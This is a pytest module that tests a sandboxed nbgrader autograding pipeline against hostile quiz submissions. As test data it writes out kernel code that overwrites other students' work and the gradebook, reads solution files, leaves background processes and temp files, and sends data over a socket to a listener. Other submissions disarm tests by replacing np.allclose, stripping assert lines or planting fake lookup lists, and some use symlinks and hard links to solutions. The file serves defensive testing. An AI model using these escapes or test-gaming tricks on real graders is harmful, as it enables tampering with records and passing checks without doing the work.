"""The quiz notebooks (quizzes 1, 2, 7) through real nbgrader commands, offline with the `mini` model.

In a copy of the course in a temporary folder (so no gradebook.db or autograded/ ever lands in the repo), laid
out as on a JupyterHub: the course folder holds its own copy of `mmembed`, while nbgrader and the kernels run a
Python that imports another clone (an editable install, made cheaply with a .pth file). There:
`nbgrader generate_assignment` (the committed release must equal the fresh one), `nbgrader validate --invert`
on the release, `nbgrader collect` from an exchange, then the class autograded two students at a time
(`python -m autograder.notebooks.parallel`, one `nbgrader autograde --student` each, one gradebook), one more
student by plain `nbgrader autograde`, `nbgrader generate_feedback`, and the scores read back from the gradebook
and from `nbgrader export`. The source notebooks' answers are the "solution" student's, who must get full marks
(what `nbgrader validate` on the source would say, without three more kernel runs); graded again alone with the
repository's own Python (the installed checkout), they must score the same.

Each kernel runs in the bubblewrap sandbox (autograder/notebooks/kernel_manager.py). Hostile students, graded with
the others, try what a class could (hostile_notebooks.py): from the kernel, rewriting the other students'
submissions and the gradebook, reading the source notebooks, the network, files and processes left behind,
filling every writable folder, hiding failed tests (event callbacks, replaced helpers and library functions),
huge and scripted outputs; and at the doors, links and hard links to the solutions, the gradebook and a
classmate's notebook, by hand and through the exchange. The tests check each property, the machine afterwards,
and that the other students score what they score when graded alone.
"""

import copy
import csv
import html
import json
import os
import shutil
import subprocess
import sys
import sysconfig
import time
from html.parser import HTMLParser
from pathlib import Path

import nbformat
import pytest

from autograder.notebooks import outputs, verdicts
from autograder.notebooks.canary import PROBE_MARK
from autograder.sandbox import bubblewrap
from tests.grading import hostile_notebooks as hostile
from tests.helpers import REPO_ROOT, UNREACHABLE_HUB, Listener

pytestmark = [
    pytest.mark.slow,
    pytest.mark.xdist_group("nbgrader"),  # one worker builds the class once (the module's fixture)
    pytest.mark.skipif(not bubblewrap.status().available, reason=f"no sandbox here: {bubblewrap.status().reason}"),
]
MARKER = f"nbgrader-escape-{os.getpid()}"  # in every file and process the hostile student leaves behind

ASSIGNMENT = "quiz_notebooks"
SOURCE = REPO_ROOT / "solutions" / ASSIGNMENT
RELEASE = REPO_ROOT / "quizzes" / ASSIGNMENT
CONFIG = Path("autograder") / "notebooks" / "nbgrader_config.py"  # in the course folder
NOTEBOOKS = ["quiz1_cosine_similarity", "quiz2_topk_text", "quiz7_find_pictures"]
QUIZ7_TARGETS = verdicts.QUIZ7_TARGETS  # the five pictures of quiz 7 (test_rechecked_targets_are_the_notebooks)
# grade_id -> points, as the source notebooks set them
POINTS = {
    "quiz1_rowwise_test": 2,
    "quiz1_pairwise_test": 2,
    "quiz1_relation_test": 1,
    "quiz2_top3_test": 4,
    **{f"quiz7_{name.split('.')[0]}_test": 1 for name in QUIZ7_TARGETS},
}
MAX_SCORE = sum(POINTS.values())  # 14
QUIZ1_POINTS = {grade_id: points for grade_id, points in POINTS.items() if grade_id.startswith("quiz1")}
PAYLOAD = f"PWNED_{os.getpid()}"  # what the scripted outputs would call
# Volatile cell metadata that Jupyter adds when a notebook is opened or run; never part of the release.
VOLATILE_CELL_METADATA = {"execution", "ExecuteTime", "collapsed", "scrolled", "trusted"}


def course_env(root: Path) -> dict:
    """Offline, with the course's model, the way an instructor runs nbgrader on a machine without the hub."""
    env = {key: value for key, value in os.environ.items() if not key.startswith(("HF_", "MMEMBED_"))}
    env.update(
        MMEMBED_MODEL="mini",
        HF_HUB_OFFLINE="1",
        HF_ENDPOINT=UNREACHABLE_HUB,
        HF_HOME=str(root / ".hf-home"),
        PATH=os.pathsep.join([str(Path(sys.executable).parent), env.get("PATH", "")]),  # nbgrader calls `alembic`
        PYTHONWARNINGS="ignore::DeprecationWarning",
    )
    return env


def nbgrader(
    root: Path, *args: str, timeout: int = 600, module: str = "nbgrader", python=None, env=None
) -> subprocess.CompletedProcess:
    """Run `nbgrader ARGS` (or another module) in `root` with the course's config, by default with the Python of
    the editable clone (see editable_clone)."""
    config = root / CONFIG
    config_arg = f"--config={config}" if module != "nbgrader" else f"--NbGrader.config_file={config}"
    command = [str(python or clone_python(root)), "-m", module, *args, config_arg]
    started = time.monotonic()
    env = {**course_env(root), **(env or {})}
    result = subprocess.run(command, cwd=root, env=env, capture_output=True, text=True, timeout=timeout)
    print(f"$ {module} {' '.join(args)} -> exit {result.returncode} in {time.monotonic() - started:.0f} s")
    return result


def cells_by_grade_id(nb) -> dict:
    return {cell.metadata["nbgrader"]["grade_id"]: cell for cell in nb.cells if "nbgrader" in cell.metadata}


def normalised(path: Path) -> dict:
    nb = json.loads(path.read_text(encoding="utf-8"))
    for cell in nb["cells"]:
        for key in VOLATILE_CELL_METADATA:
            cell["metadata"].pop(key, None)
    return nb


# ------------------------------------------------------------------------------------------ submissions
def solved(release_nb, source_nb):
    """The release with every answer cell filled in with the solution (what a perfect student submits)."""
    nb = copy.deepcopy(release_nb)
    solutions = cells_by_grade_id(source_nb)
    for grade_id, cell in cells_by_grade_id(nb).items():
        if cell.metadata["nbgrader"].get("solution"):
            lines = solutions[grade_id].source.splitlines()
            cell.source = "\n".join(
                line for line in lines if line.strip() not in ("### BEGIN SOLUTION", "### END SOLUTION")
            )
    return nb


def answer(nb, grade_id: str, source: str):
    nb = copy.deepcopy(nb)
    cells_by_grade_id(nb)[grade_id].source = source
    return nb


NOISY_QUIZ2_ANSWER = """answer_text = "a dog's head"

# Library noise on stderr *inside the graded cell* (as torch/transformers print it): must not cost points.
import sys
import warnings

_get_text_features = model.get_text_features


def _noisy_get_text_features(*args, **kwargs):
    warnings.warn("`resume_download` is deprecated and will be removed in version 6.", FutureWarning)
    print("Loading weights: 100%|##########| 110/110 [00:00<00:00, 19175.95it/s]", file=sys.stderr)
    return _get_text_features(*args, **kwargs)


model.get_text_features = _noisy_get_text_features
"""

# Answers that disarm the tests in the kernel, each a different way; the canaries must catch every one.
DISARM_QUIZ1 = """rowwise = F.cosine_similarity(vec1, vec2, dim=1)
pairwise = F.cosine_similarity(vec1, vec2, dim=1)  # wrong shape...
np.allclose = lambda *args, **kwargs: True  # ...and the value checks disarmed
"""
DISARM_QUIZ2 = """answer_text = "a running dog"  # a wrong answer: its top-3 are dog_3, dog_8, dog_1
# Drop every line that starts with assert, in every cell from now on (the canary's too).
get_ipython().input_transformers_post.append(
    lambda lines: [line for line in lines if not line.lstrip().startswith("assert")])
"""
DISARM_QUIZ7 = """answer_texts = {name: "a cat" for name in TARGET_NAMES}
# Cleverer: disarm only the test cells ("채점" in their first line) and leave the last cell alone.
def _pass_tests(lines):
    return ["pass\\n"] if lines and "채점" in lines[0] else lines
get_ipython().input_transformers_post.append(_pass_tests)
"""
# Answers that fool the tests without touching anything the canaries watch: the notebook's own list of
# picture names answers every lookup with the name the running test expects. Only the grader's own search
# (autograder/recheck.py) sees through it.
PLANTED_QUIZ7 = """answer_texts = {name: "a cat" for name in TARGET_NAMES}


class _AlwaysTheExpectedName(list):
    def __getitem__(self, index):
        return get_ipython().user_ns.get("name", "")


quiz_names = _AlwaysTheExpectedName(quiz_names)
"""


def hostile_quiz1(root: Path, port: int) -> str:
    """Right answers, and from the kernel every attack on the course a class could try (each would work
    without the sandbox: the kernel ran with the instructor's rights)."""
    victims = [
        root / "submitted" / "solution" / ASSIGNMENT / "quiz1_cosine_similarity.ipynb",
        root / "gradebook.db",
        root / CONFIG.parent / "canary.py",
    ]
    return f"""rowwise = F.cosine_similarity(vec1, vec2, dim=1)
pairwise = F.cosine_similarity(vec1.unsqueeze(1), vec2.unsqueeze(0), dim=-1)

import os as _os, socket as _socket, subprocess as _subprocess, sys as _sys
for _path in {[str(v) for v in victims]!r}:
    try:
        with open(_path, "w") as _file:
            _file.write("{{}}")
    except OSError:
        print("could not write", _path)
for _path in [{str(root / "solutions" / ASSIGNMENT / "quiz2_topk_text.ipynb")!r}, {str(root / "gradebook.db")!r}]:
    try:
        open(_path, "rb").read()
        print("READ", _path)
    except OSError:
        print("could not read", _path)
_subprocess.Popen([_sys.executable, "-c", "import time; time.sleep(600)  # {MARKER}"], start_new_session=True,
                  stdin=_subprocess.DEVNULL, stdout=_subprocess.DEVNULL, stderr=_subprocess.DEVNULL)
for _folder in ["/tmp", "/var/tmp", "/dev/shm"]:
    try:
        open(_os.path.join(_folder, "{MARKER}.txt"), "w").write("left behind")
    except OSError:
        pass
try:
    _socket.create_connection(("127.0.0.1", {port}), timeout=1).sendall(b"leaked")
except OSError:
    print("no network")
"""


def make_submissions(release: dict, source: dict, root: Path, port: int) -> dict[str, dict]:
    """{student: {notebook: nb}} and the expected scores are in EXPECTED below."""
    # Each student hands in only the notebooks its test needs (a missing notebook scores 0, as "planted"
    # shows): every notebook is a kernel run, and the untouched release is already `validate --invert`'s.
    full = {name: solved(release[name], source[name]) for name in NOTEBOOKS}
    quiz7_partial = "answer_texts = {}\n" + "\n".join(
        [
            'answer_texts["val_134.JPEG"] = "the Eiffel Tower"',
            'answer_texts["val_169.JPEG"] = "a rooster"',
            'answer_texts["val_194.JPEG"] = "a basketball"',
            'answer_texts["val_167.JPEG"] = "val_167.JPEG"',  # a file name, not a description: no point
        ]
    )  # val_175 left out
    return {
        "a_hostile": {
            "quiz1_cosine_similarity": answer(
                release["quiz1_cosine_similarity"], "quiz1_rowwise_answer", hostile_quiz1(root, port)
            ),
        },
        "solution": full,
        "partial": {
            "quiz1_cosine_similarity": answer(
                answer(
                    release["quiz1_cosine_similarity"],
                    "quiz1_rowwise_answer",
                    "rowwise = F.cosine_similarity(vec1, vec2, dim=1)",
                ),
                "quiz1_pairwise_answer",
                "pairwise = F.cosine_similarity(vec1, vec2, dim=1)  # no unsqueeze: (2,)",
            ),
            "quiz2_topk_text": answer(release["quiz2_topk_text"], "quiz2_answer", NOISY_QUIZ2_ANSWER),
            "quiz7_find_pictures": answer(release["quiz7_find_pictures"], "quiz7_answer", quiz7_partial),
        },
        # Wrong answer, and the locked test cell replaced by `pass`: nbgrader restores the cell from the gradebook.
        "locked_edit": {
            "quiz2_topk_text": answer(
                answer(release["quiz2_topk_text"], "quiz2_answer", 'answer_text = "a running dog"'),
                "quiz2_top3_test",
                "pass",
            ),
        },
        "planted": {"quiz7_find_pictures": answer(release["quiz7_find_pictures"], "quiz7_answer", PLANTED_QUIZ7)},
        "disarmed": {
            "quiz1_cosine_similarity": answer(release["quiz1_cosine_similarity"], "quiz1_rowwise_answer", DISARM_QUIZ1),
            "quiz2_topk_text": answer(release["quiz2_topk_text"], "quiz2_answer", DISARM_QUIZ2),
            "quiz7_find_pictures": answer(release["quiz7_find_pictures"], "quiz7_answer", DISARM_QUIZ7),
        },
        "event_hook": {"quiz1_cosine_similarity": quiz1(release, hostile.EVENT_HOOK)},
        "patched_helpers": {"quiz1_cosine_similarity": quiz1(release, hostile.PATCHED_HELPERS)},
        "patched_search": {
            "quiz2_topk_text": answer(release["quiz2_topk_text"], "quiz2_answer", hostile.PATCHED_SEARCH)
        },
        "kernel_tests_broken": {"quiz1_cosine_similarity": quiz1(release, hostile.KERNEL_TESTS_BROKEN)},
        "flooder": {"quiz1_cosine_similarity": flooded(release)},
        "disk_flood": {"quiz1_cosine_similarity": quiz1(release, hostile.DISK_FLOOD)},
    }


def quiz1(release: dict, source: str):
    """Quiz 1 with both answers in the first answer cell (the second answer cell keeps the release's stub)."""
    return answer(release["quiz1_cosine_similarity"], "quiz1_rowwise_answer", source)


def flooded(release: dict):
    """Quiz 1 flooding its outputs, with a markdown cell that carries script and a dozen 2 MB prints at the end."""
    nb = quiz1(release, hostile.outputs_flood(PAYLOAD))
    nb.cells.append(nbformat.v4.new_markdown_cell(hostile.markdown_with_script(PAYLOAD)))
    nb.cells.extend(nbformat.v4.new_code_cell(hostile.FLOOD_CELL) for _ in range(12))
    return nb


def link_submissions(root: Path) -> None:
    """Submissions gathered by hand (unzip, tar keep links): "linker" hands in a link to the source notebook, a hard
    link to another source notebook, a link to a classmate's notebook and an extra file linked to the gradebook;
    "folder_link" hands in a link to the whole source folder."""
    source, folder = root / "solutions" / ASSIGNMENT, root / "submitted" / "linker" / ASSIGNMENT
    folder.mkdir(parents=True)
    (folder / "quiz1_cosine_similarity.ipynb").symlink_to(source / "quiz1_cosine_similarity.ipynb")
    os.link(source / "quiz2_topk_text.ipynb", folder / "quiz2_topk_text.ipynb")
    (folder / "quiz7_find_pictures.ipynb").symlink_to(
        root / "submitted" / "solution" / ASSIGNMENT / "quiz7_find_pictures.ipynb"
    )
    (folder / "notes.txt").symlink_to(root / "gradebook.db")
    (root / "submitted" / "folder_link").mkdir()
    (root / "submitted" / "folder_link" / ASSIGNMENT).symlink_to(source)


def exchange_submission(root: Path, release: dict, source: dict) -> Path:
    """The exchange's inbound folder (world-writable on a JupyterHub) with one submission: a regular, right quiz 1,
    quiz 2 as a link to the source notebook, quiz 7 as a hard link to it, an extra notebook linked to the gradebook."""
    exchange = root.parent / "exchange"
    submission = exchange / "mmembed" / "inbound" / f"exchanged+{ASSIGNMENT}+2026-01-01 00:00:00.000000 UTC"
    submission.mkdir(parents=True)
    nbformat.write(
        solved(release["quiz1_cosine_similarity"], source["quiz1_cosine_similarity"]),
        submission / "quiz1_cosine_similarity.ipynb",
    )
    (submission / "timestamp.txt").write_text("2026-01-01 00:00:00.000000 UTC")
    sources = root / "solutions" / ASSIGNMENT
    (submission / "quiz2_topk_text.ipynb").symlink_to(sources / "quiz2_topk_text.ipynb")
    os.link(sources / "quiz7_find_pictures.ipynb", submission / "quiz7_find_pictures.ipynb")
    (submission / "gradebook.ipynb").symlink_to(root / "gradebook.db")
    return exchange


EXPECTED = {
    "a_hostile": {
        **dict.fromkeys(POINTS, 0),
        "quiz1_rowwise_test": 2,
        "quiz1_pairwise_test": 2,
        "quiz1_relation_test": 1,
    },
    "solution": POINTS,
    "partial": {
        **dict.fromkeys(POINTS, 0),
        "quiz1_rowwise_test": 2,
        "quiz2_top3_test": 4,
        "quiz7_val_134_test": 1,
        "quiz7_val_169_test": 1,
        "quiz7_val_194_test": 1,
    },
    "locked_edit": dict.fromkeys(POINTS, 0),
    "disarmed": dict.fromkeys(POINTS, 0),
    "planted": dict.fromkeys(POINTS, 0),
    "event_hook": dict.fromkeys(POINTS, 0),
    "patched_helpers": dict.fromkeys(POINTS, 0),
    "patched_search": dict.fromkeys(POINTS, 0),
    "kernel_tests_broken": {**dict.fromkeys(POINTS, 0), **QUIZ1_POINTS},
    "flooder": {**dict.fromkeys(POINTS, 0), **QUIZ1_POINTS},
    "disk_flood": {**dict.fromkeys(POINTS, 0), **QUIZ1_POINTS},
    "linker": dict.fromkeys(POINTS, 0),
    "folder_link": dict.fromkeys(POINTS, 0),
    "exchanged": {**dict.fromkeys(POINTS, 0), **QUIZ1_POINTS},
    "late_link": dict.fromkeys(POINTS, 0),
}
REFUSED = {  # student -> the notebooks refused at the door
    "linker": NOTEBOOKS,
    "folder_link": NOTEBOOKS,
    "exchanged": ["quiz2_topk_text", "quiz7_find_pictures"],
    "late_link": ["quiz1_cosine_similarity"],
}
# What the canaries report for each notebook of "disarmed" (autograder/canary.py).
DISARM_REASONS = {
    "quiz1_cosine_similarity": "allclose",
    "quiz2_topk_text": "did not fail",
    "quiz7_find_pictures": "input_transformers_post",
}


# ------------------------------------------------------------------------------------------ the run
def editable_clone(base: Path) -> Path:
    """A Python whose `mmembed` is another clone's, as an editable install puts a clone on sys.path; every other
    package comes from this virtual environment through the same .pth file (no second torch). Returns it."""
    clone = base / "clone"
    shutil.copytree(REPO_ROOT / "mmembed", clone / "mmembed", ignore=shutil.ignore_patterns("__pycache__"))
    shutil.copytree(REPO_ROOT / "models" / "mini", clone / "models" / "mini")
    shutil.copytree(REPO_ROOT / "images", clone / "images")
    subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(base / "venv")], check=True)
    site = next((base / "venv").glob("lib/python*/site-packages"))
    (site / "editable_clone.pth").write_text(f"{clone}\n{sysconfig.get_paths()['purelib']}\n")
    (base / "venv" / "share").mkdir(exist_ok=True)  # nbconvert's templates, as an installed Jupyter has them
    (base / "venv" / "share" / "jupyter").symlink_to(Path(sys.prefix) / "share" / "jupyter")
    return clone_python(base / "course")


def clone_python(root: Path) -> Path:
    return root.parent / "venv" / "bin" / "python"


@pytest.fixture(scope="module")
def course(tmp_path_factory):
    """Run the whole nbgrader cycle once in a copy of the course; the tests below check its results."""
    base = tmp_path_factory.mktemp("nbgrader")
    root = base / "course"
    shutil.copytree(SOURCE, root / "solutions" / ASSIGNMENT, ignore=shutil.ignore_patterns(".ipynb_checkpoints"))
    # The whole grader and mmembed, as in a course folder that is a copy of the repository.
    for package in ("autograder", "mmembed"):
        shutil.copytree(REPO_ROOT / package, root / package, ignore=shutil.ignore_patterns("__pycache__"))
    editable_clone(base)
    started = time.monotonic()
    runs = {}

    runs["generate"] = nbgrader(root, "generate_assignment", ASSIGNMENT, "--force")
    runs["invert"] = nbgrader(root, "validate", "--invert", *[f"quizzes/{ASSIGNMENT}/{n}.ipynb" for n in NOTEBOOKS])

    release = {n: nbformat.read(root / "quizzes" / ASSIGNMENT / f"{n}.ipynb", as_version=4) for n in NOTEBOOKS}
    source = {n: nbformat.read(SOURCE / f"{n}.ipynb", as_version=4) for n in NOTEBOOKS}
    listener = Listener()
    listener.start()
    for student, notebooks in make_submissions(release, source, root, listener.port).items():
        folder = root / "submitted" / student / ASSIGNMENT
        folder.mkdir(parents=True)
        for name, nb in notebooks.items():
            nbformat.write(nb, folder / f"{name}.ipynb")
    link_submissions(root)
    exchange = exchange_submission(root, release, source)
    refused = [root / "submitted" / student for student in REFUSED]  # replaced by placeholders at the door
    submitted = {
        path: path.read_bytes()
        for path in (root / "submitted").rglob("*.ipynb")
        if not any(path.is_relative_to(folder) for folder in refused)
    }
    grader = {path: path.read_bytes() for path in (root / "autograder").rglob("*.py")}
    instructor = {path: path.read_bytes() for path in (root / "solutions").rglob("*") if path.is_file()}
    runs["collect"] = nbgrader(
        root, "collect", ASSIGNMENT, f"--Exchange.root={exchange}", "--CourseDirectory.course_id=mmembed"
    )
    runs["autograde"] = nbgrader(
        root, ASSIGNMENT, "--jobs", "2", "--root", str(root), module="autograder.notebooks.parallel", timeout=1200
    )
    # A link handed in after the class was graded, through plain `nbgrader autograde` (its pre-convert hook).
    (root / "submitted" / "late_link" / ASSIGNMENT).mkdir(parents=True)
    (root / "submitted" / "late_link" / ASSIGNMENT / "quiz1_cosine_similarity.ipynb").symlink_to(
        root / "solutions" / ASSIGNMENT / "quiz1_cosine_similarity.ipynb"
    )
    runs["late"] = nbgrader(root, "autograde", ASSIGNMENT, "--student", "late_link")
    runs["feedback"] = nbgrader(root, "generate_feedback", ASSIGNMENT)
    runs["export"] = nbgrader(root, "export", "--to", str(root / "grades.csv"))
    seconds = time.monotonic() - started
    print(f"nbgrader cycle: {seconds:.0f} s")
    listener.server.close()
    instructor[root / "gradebook.db"] = (root / "gradebook.db").read_bytes()
    in_class = grades(root)
    # The notebooks the hostile classmates attacked, graded again alone, in the other layout: the repository's own
    # Python, where nbgrader and the kernel import the same installed checkout (PYTHONSAFEPATH: not the course's).
    runs["alone"] = nbgrader(
        root,
        "autograde",
        ASSIGNMENT,
        "--student",
        "solution",
        "--force",
        python=sys.executable,
        env={"PYTHONSAFEPATH": "1"},
    )
    return {
        "root": root,
        "runs": runs,
        "seconds": seconds,
        "listener": listener,
        "submitted": submitted,
        "grader": grader,
        "instructor": instructor,
        "in_class": in_class,
    }


def check_ran(run: subprocess.CompletedProcess):
    log = "\n".join(line for line in run.stderr.splitlines() if line.strip() and "Autograding:" not in line)
    assert run.returncode == 0, f"exit {run.returncode}\n{run.stdout[-3000:]}\n{log[-8000:]}"


def test_committed_release_is_the_generated_one(course):
    check_ran(course["runs"]["generate"])
    fresh = course["root"] / "quizzes" / ASSIGNMENT
    assert sorted(p.name for p in RELEASE.iterdir()) == sorted(p.name for p in fresh.iterdir()), (
        "quizzes/quiz_notebooks/ holds other files than nbgrader generates"
    )
    for name in NOTEBOOKS:
        assert normalised(RELEASE / f"{name}.ipynb") == normalised(fresh / f"{name}.ipynb"), (
            f"quizzes/{ASSIGNMENT}/{name}.ipynb is stale: regenerate it (README: nbgrader generate_assignment)"
        )


def test_release_hides_solutions_and_hidden_tests():
    for name in NOTEBOOKS:
        text = (RELEASE / f"{name}.ipynb").read_text(encoding="utf-8")
        for marker in ("BEGIN SOLUTION", "HIDDEN TESTS", "a dog's head", "the Eiffel Tower", "unsqueeze(1)"):
            assert marker not in text, f"{name}: the release shows {marker!r}"


def test_every_test_fails_on_the_untouched_release(course):
    run = course["runs"]["invert"]
    check_ran(run)
    assert run.stdout.count("Success! The notebook does not pass any tests.") == len(NOTEBOOKS), run.stdout


def grades(root: Path) -> dict[str, dict[str, float]]:
    from nbgrader.api import Gradebook

    with Gradebook(f"sqlite:///{root / 'gradebook.db'}") as gradebook:
        return {
            student: {
                grade.name: grade.score
                for nb in gradebook.find_submission(ASSIGNMENT, student).notebooks
                for grade in nb.grades
            }
            for student in EXPECTED
        }


def test_autograde_scores(course):
    check_ran(course["runs"]["autograde"])
    scores = grades(course["root"])
    assert scores == EXPECTED
    totals = {student: sum(points.values()) for student, points in scores.items()}
    assert totals["solution"] == MAX_SCORE
    assert 0 < totals["partial"] < MAX_SCORE
    assert totals["locked_edit"] == totals["disarmed"] == totals["planted"] == 0


def test_disarmed_tests_are_caught_and_the_student_is_told_why(course):
    for name, reason in DISARM_REASONS.items():
        autograded = nbformat.read(
            course["root"] / "autograded" / "disarmed" / ASSIGNMENT / f"{name}.ipynb", as_version=4
        )
        tests = [cell for grade_id, cell in cells_by_grade_id(autograded).items() if grade_id in POINTS]
        for cell in tests:
            first = cell.outputs[0]
            assert first.output_type == "error" and first.ename == "IntegrityCheckFailed", (name, cell.outputs)
            assert "채점 무결성 확인 실패" in first.evalue and reason in first.evalue, (name, first.evalue)
        assert not any(PROBE_MARK in cell.metadata for cell in autograded.cells), "the probes must be taken out"
    log = course["runs"]["autograde"].stdout + course["runs"]["autograde"].stderr
    assert "Integrity check failed" in log  # the instructor sees it in the log


def test_planted_answers_are_caught_by_the_graders_own_search(course):
    autograded = nbformat.read(
        course["root"] / "autograded" / "planted" / ASSIGNMENT / "quiz7_find_pictures.ipynb", as_version=4
    )
    for name in QUIZ7_TARGETS:
        cell = cells_by_grade_id(autograded)[f"quiz7_{name.split('.')[0]}_test"]
        assert not [o for o in cell.outputs if o.output_type == "error" and o.ename != "GraderCheckFailed"], (
            "the kernel's own test passed: the planted list fooled it, as intended"
        )
        assert cell.outputs[0].ename == "GraderCheckFailed" and "채점기 확인 실패" in cell.outputs[0].evalue
        assert name not in cell.outputs[0].evalue


def test_rechecked_targets_are_the_notebooks():
    notebook = (SOURCE / "quiz7_find_pictures.ipynb").read_text(encoding="utf-8")
    assert f"TARGET_NAMES = {verdicts.QUIZ7_TARGETS!r}" in notebook
    assert set(verdicts.GRADE_IDS) == set(POINTS)  # every graded answer has the grader's own verdict


def test_the_notebook_a_student_runs_ends_cleanly(course):
    """No cell fails on purpose: the solved notebooks, executed by nbgrader, show no error at all."""
    for name in NOTEBOOKS:
        autograded = nbformat.read(course["root"] / "autograded" / "solution" / ASSIGNMENT / f"{name}.ipynb", 4)
        errors = [o for cell in autograded.cells for o in cell.get("outputs", []) if o.output_type == "error"]
        assert errors == [], (name, errors)
        assert not any(PROBE_MARK in cell.metadata for cell in autograded.cells)
    for folder in (SOURCE, RELEASE):
        for name in NOTEBOOKS:
            assert "CANARY" not in (folder / f"{name}.ipynb").read_text(encoding="utf-8")


# ------------------------------------------------------------------------------------------ the sandbox
def test_kernels_run_in_the_sandbox(course):
    assert "NO SANDBOX" not in course["runs"]["autograde"].stdout + course["runs"]["autograde"].stderr
    hostile = nbformat.read(
        course["root"] / "autograded" / "a_hostile" / ASSIGNMENT / "quiz1_cosine_similarity.ipynb", 4
    )
    printed = "".join(o.get("text", "") for cell in hostile.cells for o in cell.get("outputs", []))
    assert "could not read" in printed and "READ " not in printed, printed
    assert "no network" in printed


def test_a_kernel_cannot_rewrite_other_submissions_the_gradebook_or_the_grader(course):
    for path, content in course["submitted"].items():
        assert path.read_bytes() == content, f"{path} was changed while grading"
    for path, content in course["grader"].items():
        assert path.read_bytes() == content, f"{path} was changed while grading"
    assert course["in_class"] == EXPECTED  # the gradebook holds every student's true score


def test_the_other_students_score_as_when_graded_alone(course):
    check_ran(course["runs"]["alone"])
    assert grades(course["root"])["solution"] == course["in_class"]["solution"] == POINTS


def test_a_kernel_has_no_network_and_leaves_nothing_behind(course):
    assert course["listener"].connections == 0
    leftovers = [path for folder in ("/tmp", "/var/tmp", "/dev/shm") for path in Path(folder).glob(f"{MARKER}*")]
    assert leftovers == []
    survivors = []
    for proc in Path("/proc").iterdir():
        try:
            if proc.name.isdigit() and MARKER in (proc / "cmdline").read_bytes().decode(errors="replace"):
                survivors.append(proc.name)
        except OSError:
            pass
    assert survivors == [], "a process the kernel started outlived it"


def test_export_has_one_row_per_student(course):
    check_ran(course["runs"]["export"])
    with open(course["root"] / "grades.csv", newline="", encoding="utf-8") as f:
        rows = {row["student_id"]: row for row in csv.DictReader(f)}
    assert {s: float(rows[s]["score"]) for s in EXPECTED} == {s: float(sum(p.values())) for s, p in EXPECTED.items()}
    assert {float(row["max_score"]) for row in rows.values()} == {MAX_SCORE}


def test_locked_test_cell_was_restored(course):
    autograded = course["root"] / "autograded" / "locked_edit" / ASSIGNMENT / "quiz2_topk_text.ipynb"
    cell = cells_by_grade_id(nbformat.read(autograded, as_version=4))["quiz2_top3_test"]
    assert cell.source.strip() != "pass" and "assert retrieved ==" in cell.source
    assert any(output.output_type == "error" for output in cell.outputs)


# ------------------------------------------------------------------------------------------ the doors
def autograded(course, student: str, name: str):
    return nbformat.read(course["root"] / "autograded" / student / ASSIGNMENT / f"{name}.ipynb", as_version=4)


def feedback_html(course, student: str, name: str) -> str:
    return (course["root"] / "feedback" / student / ASSIGNMENT / f"{name}.html").read_text(encoding="utf-8")


def test_links_are_refused_at_every_door_and_the_student_is_told(course):
    check_ran(course["runs"]["collect"])
    check_ran(course["runs"]["late"])
    check_ran(course["runs"]["feedback"])
    scores = grades(course["root"])
    for student, refused in REFUSED.items():
        assert scores[student] == EXPECTED[student], student
        for name in refused:
            first = autograded(course, student, name).cells[0]  # cleaned markdown: HTML, Korean as entities
            assert first.cell_type == "markdown" and "제출물이 거부되었습니다" in html.unescape(first.source)
            assert "제출물이 거부되었습니다" in html.unescape(feedback_html(course, student, name)), (student, name)
    # What was handed in by hand is kept for the instructor, links and all, never followed.
    kept = course["root"] / "refused" / "linker" / ASSIGNMENT
    assert (kept / "quiz1_cosine_similarity.ipynb").is_symlink() and (kept / "notes.txt").is_symlink()


def test_no_instructor_file_reaches_a_students_autograded_or_feedback_folder(course):
    root = course["root"]
    instructor = set(course["instructor"].values())
    for folder in ("autograded", "feedback"):
        for path in (root / folder).rglob("*"):
            assert not path.is_symlink(), path
            if not path.is_file():
                continue
            assert path.stat().st_nlink == 1, path
            content = path.read_bytes()
            assert content not in instructor, f"{path} is an instructor's file"
            assert b"BEGIN SOLUTION" not in content and not content.startswith(b"SQLite format 3"), path
    for path, content in course["instructor"].items():  # and none was changed through a link
        if path.name != "gradebook.db":
            assert path.read_bytes() == content, path


# ------------------------------------------------------------------------------------------ the verdicts
def test_the_graders_verdict_replaces_the_kernels_both_ways(course):
    # The kernel's test passed (a replaced mmembed.search the canaries cannot see); the grader's search says no.
    cell = cells_by_grade_id(autograded(course, "patched_search", "quiz2_topk_text"))["quiz2_top3_test"]
    assert cell.outputs[0].ename == "GraderCheckFailed"
    assert not [o for o in cell.outputs[1:] if o.output_type == "error"], "the kernel's own test passed"
    # The kernel's tests failed (np is gone), the answers are right: full marks, and the cells say why.
    cells = cells_by_grade_id(autograded(course, "kernel_tests_broken", "quiz1_cosine_similarity"))
    for grade_id in QUIZ1_POINTS:
        assert not [o for o in cells[grade_id].outputs if o.output_type == "error"], cells[grade_id].outputs
    for grade_id in ("quiz1_rowwise_test", "quiz1_pairwise_test"):  # the two that use np
        assert verdicts.CONFIRMED in "".join(o.get("text", "") for o in cells[grade_id].outputs)


@pytest.mark.parametrize(
    "student, reason",
    [("event_hook", "IPython event callback on post_run_cell"), ("patched_helpers", "replaced numpy.allclose")],
)
def test_the_canary_reports_event_callbacks_and_replaced_library_functions(course, student, reason):
    for grade_id, cell in cells_by_grade_id(autograded(course, student, "quiz1_cosine_similarity")).items():
        if grade_id in POINTS:
            assert cell.outputs[0].ename == "IntegrityCheckFailed" and reason in cell.outputs[0].evalue


# ------------------------------------------------------------------------------------------ outputs and disk
def text(output) -> str:
    return output.get("text", "")


def output_bytes(cell) -> int:
    return sum(outputs.size(output) for output in cell.get("outputs", []))


def test_outputs_are_bounded_in_bytes_with_a_visible_marker(course):
    root = course["root"]
    for path in (root / "autograded").rglob("*.ipynb"):
        nb = nbformat.read(path, as_version=4)
        assert all(output_bytes(cell) <= outputs.CELL_BYTES for cell in nb.cells), path
        assert sum(output_bytes(cell) for cell in nb.cells) <= outputs.NOTEBOOK_BYTES, path
    flooded = autograded(course, "flooder", "quiz1_cosine_similarity")
    cut = [cell for cell in flooded.cells if outputs.CUT_MARKER in "".join(map(text, cell.get("outputs", [])))]
    assert len(cut) >= 10  # the flooding answer cell and the 2 MB prints, the last ones cut by the notebook cap
    assert "(출력이 잘렸습니다)" in feedback_html(course, "flooder", "quiz1_cosine_similarity")
    assert (
        root / "feedback" / "flooder" / ASSIGNMENT / "quiz1_cosine_similarity.html"
    ).stat().st_size < 2 * outputs.NOTEBOOK_BYTES


class ScriptFinder(HTMLParser):
    """Where a payload could run in an HTML page: inside <script>, in an on* attribute, in a javascript: URL."""

    def __init__(self):
        super().__init__()
        self.in_script, self.runnable = False, []

